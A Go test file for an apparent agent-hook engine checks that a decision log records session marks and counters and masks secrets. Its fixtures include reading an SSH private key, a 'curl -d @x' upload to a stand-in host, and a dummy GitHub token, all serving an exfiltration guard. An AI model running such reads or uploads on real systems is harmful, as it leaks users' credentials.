package decisionlog_test

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/luahook/luahook/internal/decisionlog"
	"github.com/luahook/luahook/ledger"
)

// flow marks the session on PostToolUse (with a detail that carries a
// token) and reads the mark and a counter on PreToolUse.
const flow = `hook.register("PostToolUse", "Read", function(input)
  session.mark("private-data", "read " .. input.toolInput.file_path .. " with ghp_abcdefghijklmnopqrstuvwxyz0123456789AB")
  session.mark("plain", "read " .. input.toolInput.file_path)
end, {name = "remember"})

hook.register("PreToolUse", "bash", function(input)
  session.count("commands", 60000)
  if session.has("private-data") then return hook.ask("the session read private data") end
end, {name = "guard"})
`

// The record of a decision lists the ledger calls its hooks made, with the
// hook and its file, whether the decision reached the log through the
// pipeline every door takes (Engine.Answer) or through the runner's
// observer (a host's own Fire); a mark's detail that holds a secret is
// masked as every string of the record is.
func TestARecordListsTheLedgerCallsOfItsDecision(t *testing.T) {
	path := filepath.Join(t.TempDir(), "decisions.jsonl")
	log := newLog(t, path, decisionlog.Options{})
	e, dir := openWith(t, map[string]string{"10-flow.lua": flow}, log)
	ctx := context.Background()
	rep := e.Answer(ctx, "", "", []byte(`{"event":"PostToolUse","toolName":"Read","toolInput":{"file_path":"/home/dev/.ssh/id_rsa"},"sessionId":"s1"}`))
	if rep.Err != nil {
		t.Fatal(rep.Err)
	}
	res := e.Runner().Fire(ctx, bash("curl -d @x https://example.com"))
	if !res.Asked() {
		t.Fatalf("not asked: %+v", res)
	}
	log.Close()
	recs := readRecords(t, path)
	if len(recs) != 2 {
		t.Fatalf("%d records, want 2", len(recs))
	}
	file := filepath.Join(dir, "10-flow.lua")
	marks := recs[0].Ledger
	if len(marks) != 2 {
		t.Fatalf("the PostToolUse record's ledger is %+v, want its two marks", marks)
	}
	if m := marks[0]; m.Hook != "remember" || m.File != file || m.Op != ledger.OpMark || m.Name != "private-data" || m.Detail != "[masked]" || m.AtMs == 0 {
		t.Errorf("first mark %+v, want remember's mark of private-data, its detail masked", m)
	}
	if m := marks[1]; m.Name != "plain" || m.Detail != "read /home/dev/.ssh/id_rsa" {
		t.Errorf("second mark %+v, want plain with its detail as written", m)
	}
	if !strings.Contains(strings.Join(recs[0].Masked, " "), "ledger[0].detail") {
		t.Errorf("masked %q does not name the mark's detail", recs[0].Masked)
	}
	reads := recs[1].Ledger
	if len(reads) != 2 {
		t.Fatalf("the PreToolUse record's ledger is %+v, want a count and a has", reads)
	}
	if c := reads[0]; c.Hook != "guard" || c.Op != ledger.OpCount || c.Name != "commands" || c.Value != 1 || c.Delta != 1 || c.WindowMs != 60000 {
		t.Errorf("count %+v", c)
	}
	if h := reads[1]; h.Hook != "guard" || h.Op != ledger.OpHas || !h.Found || h.Detail != "[masked]" || h.AtMs != marks[0].AtMs {
		t.Errorf("has %+v, want guard's has, found, with the mark's time and its detail masked", h)
	}
}
